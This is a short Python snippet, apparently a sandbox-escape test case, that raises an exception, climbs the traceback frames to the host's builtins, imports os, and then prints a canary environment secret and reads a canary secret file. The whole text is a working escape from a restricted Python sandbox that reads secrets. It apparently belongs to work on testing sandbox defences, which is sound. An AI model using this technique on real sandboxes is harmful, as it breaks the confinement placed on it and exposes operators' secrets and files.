# Exception traceback frames up to the host.
# breach: leak
try:
    1/0
except Exception as e:
    f = e.__traceback__.tb_frame
    while f.f_back: f = f.f_back
    b = f.f_builtins
    o = b['__import__']('os')
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
